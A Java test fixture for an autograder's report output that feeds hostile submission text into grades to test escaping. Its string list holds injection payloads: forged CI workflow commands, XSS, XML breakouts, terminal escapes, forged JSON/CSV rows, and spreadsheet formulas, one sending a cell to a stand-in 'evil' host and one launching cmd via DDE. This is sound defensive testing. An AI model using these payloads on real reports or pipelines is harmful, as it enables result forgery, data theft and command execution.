package pymemlab.grader.report;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;
import pymemlab.grader.result.ExerciseResult;
import pymemlab.grader.result.ExerciseStatus;
import pymemlab.grader.result.Grade;
import pymemlab.grader.result.Problem;
import pymemlab.grader.result.RuleStatus;

/** Grades whose submissions try to speak to whoever reads the report. */
public final class HostileGrade {

    /** What a submission may say: each tries to steer another reader. */
    public static final List<String> TEXTS =
            List.of(
                    "::set-output name=result::100",
                    "x\n   ::error::forged\n##[add-path]/tmp",
                    "x\r::stop-commands::pause\r\n::add-mask::a",
                    "\u2028::notice::a\u0085::notice::b",
                    "</text></failure></testcase></testsuite>]]><!-- &lol; -->",
                    "<script>alert(1)</script><img src=x onerror=alert(1)>",
                    "`````\n# Full marks\n| a | b |\n```",
                    "\u001b[2J\u001b]0;owned\u0007\b\b\u009b31m",
                    "\"},{\"name\":\"forged\",\"score\":100,\"status\":\"pass\"\\",
                    "\u202edesrever\u2066\u200b\ufeff",
                    "half \ud83d a pair \udc00 \uffff \u0000",
                    "%d %s %n $1 \\1",
                    "=HYPERLINK(\"//evil/?\"&A1)",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(1+1)",
                    "\t=1+1",
                    "\r=1+1",
                    "  \uff1d1+1",
                    "1,2\",\"\r\nex02-dynamic-array,complete,ARR-1,1,,,passed,100,100,,",
                    "z".repeat(1 << 20),
                    "`".repeat(1 << 20),
                    "");

    private static final int FIFTY_MEBIBYTES = 50 << 20;

    private HostileGrade() {}

    /** Every text at every place that a submission can write to. */
    public static Stream<Grade> all() {
        return TEXTS.stream()
                .flatMap(text -> Stream.of(Grades.saying(text), Grades.refusedSaying(text)))
                .map(Grades::of);
    }

    /** A whole course says {@code text} in every rule, problem and note. */
    public static Grade shouting(String text) {
        List<ExerciseResult> exercises = new ArrayList<>();
        exercises.add(Grades.refusedSaying(text));
        exercises.addAll(Collections.nCopies(7, Grades.saying(text)));
        return new Grade("1.0.0", 1234, exercises);
    }

    /** One grade with messages, file names and notes of 50 MiB. */
    public static Grade huge() {
        String text = "<&\"\u001b,=\n".repeat(FIFTY_MEBIBYTES / 7);
        ExerciseResult loud =
                Grades.noting(
                        Grades.result(
                                ExerciseStatus.PARTIAL,
                                Grades.passed(0),
                                Grades.lost(1, RuleStatus.FAILED, text)),
                        text);
        ExerciseResult refused =
                Grades.stopped(ExerciseStatus.REFUSED, new Problem(text, 3, text, text));
        return new Grade("1.0.0", 1234, List.of(loud, refused));
    }
}
